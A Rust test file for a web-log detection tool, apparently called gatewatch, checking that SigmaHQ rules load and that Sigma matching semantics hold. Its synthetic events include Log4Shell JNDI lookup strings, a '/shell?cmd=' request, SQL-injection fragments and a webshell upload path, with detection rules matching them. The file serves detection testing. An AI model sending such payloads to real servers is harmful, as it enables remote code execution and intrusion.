//! Sigma detection rules: SigmaHQ's web rules load (or are skipped with a reason), and the
//! specification's matching semantics hold where implementations commonly go wrong.

use std::collections::BTreeMap;
use std::path::Path;

use arrow::array::Array;
use arrow::record_batch::RecordBatch;
use gatewatch_ingest::{ColumnSet, EventBatchBuilder, Provenance, RawEvent};
use gatewatch_rules::{compile_set, RuleFiles, SigmaOptions};

use crate::support::{alerts_of, gatewatch, gatewatch_ok};

/// SigmaHQ's 150 web-server and proxy rules, as copied into the repository (the rule
/// directory is read recursively, as `--rules` reads it).
pub fn sigmahq_files() -> RuleFiles {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("rules/sigma/sigmahq");
    gatewatch_rules::dir_files(&root).unwrap()
}

#[test]
fn every_sigmahq_web_rule_loads_or_is_skipped_with_a_precise_reason() {
    let files = sigmahq_files();
    assert_eq!(files.len(), 150);
    for (label, loaded, opts) in [
        ("default", 86, SigmaOptions::default()),
        (
            "proxy+deprecated",
            146,
            SigmaOptions {
                proxy: true,
                include_deprecated: true,
                ..Default::default()
            },
        ),
    ] {
        let set = compile_set(files.clone(), &[], &opts)
            .unwrap_or_else(|e| panic!("{label}: a SigmaHQ rule fails to compile: {e}"));
        assert_eq!(
            set.rules.len() + set.skipped.len(),
            150,
            "{label}: every rule is either loaded or skipped"
        );
        // Pinned: a change of the field mapping or of the skip rules shows here.
        assert_eq!(set.rules.len(), loaded, "{label}: rules loaded");
        let mut reasons: BTreeMap<String, usize> = BTreeMap::new();
        for s in &set.skipped {
            assert!(!s.reason.is_empty() && !s.rule_id.is_empty(), "{s}");
            let head = s.reason.split(':').next().unwrap_or_default().to_owned();
            *reasons.entry(head).or_default() += 1;
        }
        eprintln!(
            "{label}: {} loaded, {} skipped: {reasons:#?}",
            set.rules.len(),
            set.skipped.len()
        );
        for r in &set.rules {
            assert!(r.spec.alert_fields.contains_key("author"), "{}", r.id());
        }
    }
}

/// The rows of `events` that a Sigma rule's detection selects.
fn selects(detection: &str, events: &[RawEvent<'static>]) -> Vec<bool> {
    let yaml = format!(
        "title: t\nid: t\nlogsource:\n    category: webserver\ndetection:\n{detection}\nlevel: low\n"
    );
    let set = compile_set(vec![("t.yml".into(), yaml)], &[], &SigmaOptions::default())
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(set.skipped.is_empty(), "{:?}", set.skipped);
    rule_mask(&set.rules[0], &batch_of(events))
}

/// The events as one batch with every column.
pub fn batch_of(events: &[RawEvent<'static>]) -> RecordBatch {
    let mut b = EventBatchBuilder::new(ColumnSet::all());
    let prov = Provenance {
        source: "t".into(),
        partition: 0,
    };
    for (i, e) in events.iter().enumerate() {
        b.append(e, 0, &prov, i as i64);
    }
    b.finish().unwrap()
}

/// The rows of `full` (every column) that the rule's row filter keeps.
pub fn rule_mask(rule: &gatewatch_rules::CompiledRule, full: &RecordBatch) -> Vec<bool> {
    let idx: Vec<usize> = rule
        .schema
        .fields()
        .iter()
        .map(|f| full.schema().index_of(f.name()).unwrap())
        .collect();
    match rule.filter_mask(&full.project(&idx).unwrap()).unwrap() {
        Some(mask) => (0..mask.len())
            .map(|i| mask.is_valid(i) && mask.value(i))
            .collect(),
        None => vec![true; full.num_rows()],
    }
}

fn req(target: &str) -> RawEvent<'static> {
    RawEvent {
        event_time_ms: Some(0),
        client_ip: Some("192.0.2.1".to_owned().into()),
        method: Some("GET".into()),
        target: Some(target.to_owned().into()),
        status: Some(200),
        user_agent: Some("Mozilla/5.0".into()),
        ..Default::default()
    }
}

fn with(mut e: RawEvent<'static>, f: impl FnOnce(&mut RawEvent<'static>)) -> RawEvent<'static> {
    f(&mut e);
    e
}

#[test]
fn strings_match_case_insensitively_and_whole_unless_a_modifier_says_otherwise() {
    let ev = [
        req("/Admin/Login.PHP"),
        req("/admin/login.php.bak"),
        req("/x/admin/login.php"),
    ];
    assert_eq!(
        selects(
            "    sel:\n        cs-uri-stem: '/admin/login.php'\n    condition: sel",
            &ev
        ),
        [true, false, false]
    );
    assert_eq!(
        selects(
            "    sel:\n        cs-uri-stem|startswith: '/ADMIN/'\n    condition: sel",
            &ev
        ),
        [true, true, false]
    );
    assert_eq!(
        selects(
            "    sel:\n        cs-uri-stem|endswith: 'login.php'\n    condition: sel",
            &ev
        ),
        [true, false, true]
    );
    assert_eq!(
        selects(
            "    sel:\n        cs-uri-stem|contains: 'LOGIN'\n    condition: sel",
            &ev
        ),
        [true, true, true]
    );
    assert_eq!(
        selects(
            "    sel:\n        cs-uri-stem|contains|cased: 'Login'\n    condition: sel",
            &ev
        ),
        [true, false, false]
    );
}

/// `cs-version` is the request line's protocol (`http_version`); a format that does not log it
/// (Kong) leaves it absent, so a `not` selection holds there.
#[test]
fn cs_version_matches_the_logged_protocol() {
    let v = |p: Option<&'static str>| with(req("/"), |e| e.http_version = p.map(Into::into));
    let ev = [v(Some("HTTP/1.0")), v(Some("HTTP/1.1")), v(None)];
    assert_eq!(
        selects(
            "    sel:\n        cs-version: 'HTTP/1.0'\n    condition: sel",
            &ev
        ),
        [true, false, false]
    );
    assert_eq!(
        selects(
            "    sel:\n        cs-version|startswith: 'HTTP/1.'\n    condition: not sel",
            &ev
        ),
        [false, false, true]
    );
}

#[test]
fn wildcards_and_their_escapes_and_like_metacharacters_are_literal_where_they_should_be() {
    let ev = [
        req("/a*b"),
        req("/aXXb"),
        req("/a?b"),
        req("/aXb"),
        req("/100%_done"),
        req("/100Xydone"),
        req(r"/c\d"),
    ];
    let on = |value: &str| {
        selects(
            &format!("    sel:\n        cs-uri-query: '{value}'\n    condition: sel"),
            &ev,
        )
    };
    let (t, f) = (true, false);
    // `*` and `?` are wildcards.
    assert_eq!(on("/a*b"), [t, t, t, t, f, f, f]);
    assert_eq!(on("/a?b"), [t, f, t, t, f, f, f]);
    // `\*` and `\?` are the characters themselves.
    assert_eq!(on(r"/a\*b"), [t, f, f, f, f, f, f]);
    assert_eq!(on(r"/a\?b"), [f, f, t, f, f, f, f]);
    // LIKE's `%` and `_` are plain characters in Sigma.
    assert_eq!(on("/100%_done"), [f, f, f, f, t, f, f]);
    // A backslash before an ordinary character is a backslash; `\\` is one backslash.
    assert_eq!(on(r"/c\d"), [f, f, f, f, f, f, t]);
    assert_eq!(on(r"/c\\d"), [f, f, f, f, f, f, t]);
}

#[test]
fn re_is_case_sensitive_and_unanchored_with_flags() {
    let ev = [req("/x/UNION/select"), req("/x/union/select")];
    assert_eq!(
        selects(
            "    sel:\n        cs-uri-query|re: 'union/s'\n    condition: sel",
            &ev
        ),
        [false, true]
    );
    assert_eq!(
        selects(
            "    sel:\n        cs-uri-query|re|i: 'union/s'\n    condition: sel",
            &ev
        ),
        [true, true]
    );
    assert_eq!(
        selects(
            "    sel:\n        cs-uri-query|re: '^/x'\n    condition: sel",
            &ev
        ),
        [true, true]
    );
}

#[test]
fn all_cidr_exists_and_numeric_comparisons() {
    let ev = [
        with(req("/a?x=union+select"), |e| e.status = Some(500)),
        with(req("/a?x=union"), |e| {
            e.client_ip = Some("10.1.2.3".to_owned().into());
            e.status = Some(404);
        }),
        with(req("/b"), |e| e.user_agent = None),
    ];
    assert_eq!(
        selects(
            "    sel:\n        cs-uri-query|contains|all: ['union', 'select']\n    condition: sel",
            &ev
        ),
        [true, false, false]
    );
    assert_eq!(
        selects(
            "    sel:\n        c-ip|cidr: '10.0.0.0/8'\n    condition: sel",
            &ev
        ),
        [false, true, false]
    );
    assert_eq!(
        selects(
            "    sel:\n        c-useragent|exists: false\n    condition: sel",
            &ev
        ),
        [false, false, true]
    );
    assert_eq!(
        selects(
            "    sel:\n        sc-status|gte: 500\n    condition: sel",
            &ev
        ),
        [true, false, false]
    );
    assert_eq!(
        selects(
            "    sel:\n        sc-status|lt: 300\n    condition: sel",
            &ev
        ),
        [false, false, true]
    );
}

#[test]
fn a_status_number_matches_string_patterns() {
    let ev = [
        with(req("/"), |e| e.status = Some(200)),
        with(req("/"), |e| e.status = Some(204)),
        with(req("/"), |e| e.status = Some(302)),
    ];
    assert_eq!(
        selects(
            "    sel:\n        sc-status|contains: '20'\n    condition: sel",
            &ev
        ),
        [true, true, false]
    );
    assert_eq!(
        selects(
            "    sel:\n        sc-status: '204'\n    condition: sel",
            &ev
        ),
        [false, true, false]
    );
    assert_eq!(
        selects(
            "    sel:\n        sc-status: [200, 302]\n    condition: sel",
            &ev
        ),
        [true, false, true]
    );
}

#[test]
fn null_means_absent_not_empty_and_an_absent_field_satisfies_not() {
    let ev = [
        with(req("/"), |e| e.user_agent = None),
        with(req("/"), |e| e.user_agent = Some("".into())),
        req("/"),
    ];
    assert_eq!(
        selects(
            "    sel:\n        c-useragent: null\n    condition: sel",
            &ev
        ),
        [true, false, false]
    );
    assert_eq!(
        selects("    sel:\n        c-useragent: ''\n    condition: sel", &ev),
        [false, true, false]
    );
    // `not` of a pattern on an absent field holds: the selection does not match that event.
    assert_eq!(
        selects(
            "    sel:\n        c-useragent|contains: 'mozilla'\n    condition: not sel",
            &ev
        ),
        [true, true, false]
    );
}

#[test]
fn conditions_quantifiers_lists_of_maps_and_keywords() {
    let ev = [
        with(req("/wp-login.php"), |e| e.method = Some("POST".into())),
        req("/wp-login.php"),
        with(req("/shell?cmd=${jndi:ldap://x}"), |e| {
            e.user_agent = Some("curl".into())
        }),
        with(req("/"), |e| e.user_agent = Some("${JNDI:ldap://y}".into())),
    ];
    let d = "    selection_uri:\n        cs-uri-stem: '/wp-login.php'\n    selection_post:\n        cs-method: POST\n    _aside:\n        cs-method: GET\n";
    assert_eq!(
        selects(&format!("{d}    condition: all of selection_*"), &ev),
        [true, false, false, false]
    );
    assert_eq!(
        selects(&format!("{d}    condition: 1 of selection_*"), &ev),
        [true, true, false, false]
    );
    // `them` leaves out identifiers starting with `_`.
    assert_eq!(
        selects(&format!("{d}    condition: all of them"), &ev),
        [true, false, false, false]
    );
    assert_eq!(
        selects(
            &format!("{d}    condition: selection_uri and not (selection_post or _aside)"),
            &ev
        ),
        [false, false, false, false]
    );
    // A list of maps ORs them; several keys of one map AND them.
    assert_eq!(
        selects(
            "    sel:\n        - cs-method: POST\n          cs-uri-stem: '/nope'\n        - c-useragent: curl\n    condition: sel",
            &ev
        ),
        [false, false, true, false]
    );
    // Keywords search every text field, as substrings.
    assert_eq!(
        selects(
            "    keywords:\n        - '${jndi:'\n    condition: keywords",
            &ev
        ),
        [false, false, true, true]
    );
    assert_eq!(
        selects(
            "    keywords:\n        '|all':\n            - 'jndi'\n            - 'cmd='\n    condition: keywords",
            &ev
        ),
        [false, false, true, false]
    );
}

const LOG4SHELL_UA: &str = r#"title: Log4Shell in the user agent
id: 0b9a4d3c-0000-4000-8000-000000000001
status: test
author: gatewatch tests
logsource:
    category: webserver
detection:
    selection:
        cs-user-agent|contains: '${jndi:'
    condition: selection
level: critical
"#;

#[test]
fn rules_test_runs_a_sigma_rules_sibling_tests_file_and_fails_a_wrong_expectation() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("log4shell.yml"), LOG4SHELL_UA).unwrap();
    let tests = r#"
[[tests]]
name = "a JNDI lookup in the user agent alerts, with the author"
lines = '''
203.0.113.9 - - [01/Jan/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 12 "-" "${jndi:ldap://x/a}"
198.51.100.2 - - [01/Jan/2026:00:00:01 +0000] "GET / HTTP/1.1" 200 12 "-" "Mozilla/5.0"
'''
expect = { alerts = 1, entity = "203.0.113.9", severity = "critical", fields = { author = "gatewatch tests" } }
"#;
    std::fs::write(dir.path().join("log4shell.tests.toml"), tests).unwrap();
    let d = dir.path().to_str().unwrap();
    let out = gatewatch(&["rules", "test", d], None);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{text}");
    assert!(text.contains("1 passed, 0 failed"), "{text}");
    // The test file is not mistaken for a TOML rule by lint or run.
    let lint = gatewatch(&["rules", "lint", d], None);
    assert!(
        lint.status.success(),
        "{}",
        String::from_utf8_lossy(&lint.stdout)
    );

    std::fs::write(
        dir.path().join("log4shell.tests.toml"),
        tests.replace("alerts = 1", "alerts = 2"),
    )
    .unwrap();
    let out = gatewatch(&["rules", "test", d], None);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stdout).contains("0 passed, 1 failed"));
}

/// `gatewatch run --rules DIR` over `input` on stdin in `format`: its alerts and stderr (the run
/// must succeed).
fn run_on_stdin(dir: &Path, format: &str, input: &str) -> (Vec<serde_json::Value>, String) {
    let rules = dir.to_str().unwrap();
    let args = [
        "run",
        "--rules",
        rules,
        "-i",
        "-",
        "-f",
        format,
        "--no-summary",
    ];
    let out = gatewatch(&args, Some(input.as_bytes()));
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(out.status.success(), "{stderr}");
    (alerts_of(&out), stderr)
}

#[test]
fn run_loads_sigma_rules_from_a_tree_and_skips_what_it_cannot_run_without_failing() {
    let dir = tempfile::tempdir().unwrap();
    let sub = dir.path().join("web/emerging");
    std::fs::create_dir_all(&sub).unwrap();
    std::fs::write(sub.join("log4shell.yml"), LOG4SHELL_UA).unwrap();
    std::fs::write(
        dir.path().join("cookie.yml"),
        LOG4SHELL_UA
            .replace("0000-4000-8000-000000000001", "0000-4000-8000-000000000002")
            .replace("cs-user-agent|contains", "cs-cookie|contains"),
    )
    .unwrap();
    // A Kubernetes ConfigMap volume: hidden timestamped directory behind `..data`.
    std::fs::create_dir_all(dir.path().join("..2026_01_01/x")).unwrap();
    std::fs::write(
        dir.path().join("..2026_01_01/x/log4shell.yml"),
        LOG4SHELL_UA,
    )
    .unwrap();
    let line = "203.0.113.9 - - [01/Jan/2026:00:00:00 +0000] \"GET / HTTP/1.1\" 200 12 \"-\" \"${jndi:ldap://x/a}\"\n";
    let (alerts, stderr) = run_on_stdin(dir.path(), "nginx", line);
    assert_eq!(alerts.len(), 1, "{stderr}");
    assert_eq!(alerts[0]["rule_id"], "0b9a4d3c-0000-4000-8000-000000000001");
    assert!(
        stderr.contains("skipped Sigma rule 0b9a4d3c-0000-4000-8000-000000000002")
            && stderr.contains("cs-cookie"),
        "the skipped rule is logged with its reason: {stderr}"
    );
}

#[test]
fn the_config_files_sigma_table_selects_proxy_rules_beside_the_sink_settings() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    std::fs::write(
        rules.join("proxy.yml"),
        LOG4SHELL_UA.replace("category: webserver", "category: proxy"),
    )
    .unwrap();
    let r = rules.to_str().unwrap();
    let lint = gatewatch(&["rules", "lint", r], None);
    assert!(String::from_utf8_lossy(&lint.stdout).contains("--sigma-proxy"));

    let config = dir.path().join("gatewatch.toml");
    std::fs::write(
        &config,
        "[spool]\n\n[sigma]\nproxy = true\nwindow = \"5m\"\n",
    )
    .unwrap();
    let c = config.to_str().unwrap();
    let lint = gatewatch(&["rules", "lint", r, "--config", c], None);
    let listed = String::from_utf8_lossy(&lint.stdout);
    assert!(
        lint.status.success() && !listed.contains("skipped"),
        "{listed}"
    );
    // `run` reads the same file for its sinks and its [sigma] table.
    let line = "203.0.113.9 - - [01/Jan/2026:00:00:00 +0000] \"GET / HTTP/1.1\" 200 12 \"-\" \"${jndi:ldap://x/a}\"\n";
    let out = gatewatch_ok(
        &[
            "run",
            "--rules",
            r,
            "--config",
            c,
            "-i",
            "-",
            "-f",
            "nginx",
            "--no-summary",
        ],
        Some(line.as_bytes()),
    );
    let alerts = alerts_of(&out);
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0]["window_end"], "2026-01-01T00:05:00.000Z");
    // A typo in the table is an error, not a silently ignored setting.
    std::fs::write(&config, "[sigma]\nproxi = true\n").unwrap();
    let lint = gatewatch(&["rules", "lint", r, "--config", c], None);
    assert!(!lint.status.success());
}

#[test]
fn hot_reload_sees_sigma_files_and_a_configmap_style_symlink_swap() {
    use gatewatch_pipeline::RuleReloader;
    use std::os::unix::fs::symlink;
    use std::time::Duration;

    let ids =
        |polled: Option<Result<Vec<gatewatch_rules::CompiledRule>, gatewatch_rules::RuleError>>| {
            let mut ids: Vec<String> = polled
                .expect("a change is seen")
                .unwrap()
                .iter()
                .map(|r| r.id().to_owned())
                .collect();
            ids.sort();
            ids
        };
    // A Kubernetes ConfigMap volume: `NAME -> ..data/NAME`, `..data -> ..TIMESTAMP/`.
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::create_dir(d.join("..2026_01_01_a")).unwrap();
    std::fs::write(d.join("..2026_01_01_a/log4shell.yml"), LOG4SHELL_UA).unwrap();
    symlink("..2026_01_01_a", d.join("..data")).unwrap();
    symlink("..data/log4shell.yml", d.join("log4shell.yml")).unwrap();
    let mut reloader = RuleReloader::new(
        d.to_path_buf(),
        Vec::new(),
        SigmaOptions::default(),
        Duration::ZERO,
    );
    assert!(reloader.poll().is_none(), "nothing changed yet");

    // The platform updates the ConfigMap: a new timestamped directory, `..data` swapped to it.
    let second = LOG4SHELL_UA.replace("0000-4000-8000-000000000001", "0000-4000-8000-00000000000b");
    std::fs::create_dir(d.join("..2026_01_01_b")).unwrap();
    std::fs::write(
        d.join("..2026_01_01_b/log4shell.yml"),
        format!("{second}\n# v2\n"),
    )
    .unwrap();
    symlink("..2026_01_01_b", d.join("..data_tmp")).unwrap();
    std::fs::rename(d.join("..data_tmp"), d.join("..data")).unwrap();
    assert_eq!(
        ids(reloader.poll()),
        ["0b9a4d3c-0000-4000-8000-00000000000b"],
        "the swapped-in rule is loaded once, the hidden directories are not read"
    );

    // A plain Sigma file added beside it is picked up too.
    std::fs::write(
        d.join("other.yaml"),
        LOG4SHELL_UA.replace("0000-4000-8000-000000000001", "0000-4000-8000-00000000000c"),
    )
    .unwrap();
    assert_eq!(ids(reloader.poll()).len(), 2);
}

#[test]
fn referer_and_content_type_come_from_each_format_and_a_dash_is_absent_not_empty() {
    let dir = tempfile::tempdir().unwrap();
    let et =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("rules/sigma/sigmahq/rules-emerging-threats");
    // `selection and not filter1 and not filter2`, filter2 being `cs-referer: null`: only a
    // request that carries a Referer (even an empty one) can fire.
    std::fs::copy(
        et.join("2021/Exploits/CVE-2021-22123/web_cve_2021_22123_fortinet_exploit.yml"),
        dir.path().join("fortinet.yml"),
    )
    .unwrap();
    std::fs::copy(
        et.join("2025/Exploits/CVE-2025-31324/web_lnx_exploit_cve_2025_31324_sap_netviewer_webshell_uploaded.yml"),
        dir.path().join("sap.yml"),
    )
    .unwrap();
    let nginx = |ip: &str, referer: &str| {
        format!("{ip} - - [01/Jan/2026:00:00:00 +0000] \"POST /api/v2.0/user/remoteserver.saml HTTP/1.1\" 200 12 \"{referer}\" \"curl/8\"\n")
    };
    let kong = |ip: &str, content_type: &str| {
        format!(
            r#"{{"started_at":1767225600000,"client_ip":"{ip}","request":{{"method":"POST","uri":"/irj/servlet_jsp/irj/root/shell.jsp","headers":{{"content-type":"{content_type}","referer":"-"}}}},"response":{{"status":200}}}}"#
        ) + "\n"
    };
    let input = [
        nginx("198.51.100.1", "-"),
        nginx("198.51.100.2", ""),
        nginx(
            "198.51.100.3",
            "https://fw.example/root/user/remote-user/saml-user/x",
        ),
        nginx("198.51.100.4", "https://elsewhere.example/"),
        kong("198.51.100.5", "application/octet-stream"),
        kong("198.51.100.6", "text/plain"),
    ]
    .concat();
    let (alerts, stderr) = run_on_stdin(dir.path(), "auto", &input);
    assert!(!stderr.contains("skipped Sigma rule"), "{stderr}");
    let mut fired: Vec<(String, String)> = alerts
        .iter()
        .map(|a| {
            (
                a["entity"].as_str().unwrap_or_default().to_owned(),
                a["rule_id"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect();
    fired.sort();
    assert_eq!(
        fired,
        [
            // NGINX `""`: a Referer sent empty is present.
            (
                "198.51.100.2".into(),
                "f425637f-891c-4191-a6c4-3bb1b70513b4".into()
            ),
            (
                "198.51.100.4".into(),
                "f425637f-891c-4191-a6c4-3bb1b70513b4".into()
            ),
            (
                "198.51.100.5".into(),
                "639b893f-f93a-4e53-a7c8-f08cf73fe7f7".into()
            ),
        ],
        "{stderr}"
    );
}
